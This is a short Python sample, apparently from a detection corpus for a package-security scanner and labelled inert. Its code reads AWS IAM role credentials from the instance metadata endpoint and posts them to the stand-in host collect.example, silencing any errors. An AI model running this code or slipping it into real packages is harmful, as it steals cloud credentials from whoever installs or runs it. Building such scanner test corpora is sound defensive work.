# pkgguard corpus 398 (credentials), modelled on [stealer-profile]; inert, never run.
import json
import urllib.request

BASE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
try:
    role = urllib.request.urlopen(BASE, timeout=2).read().decode().strip()
    creds = json.loads(urllib.request.urlopen(BASE + role, timeout=2).read())
    urllib.request.urlopen(
        urllib.request.Request("https://collect.example/a", data=json.dumps(creds).encode()), timeout=5
    )
except OSError:
    pass
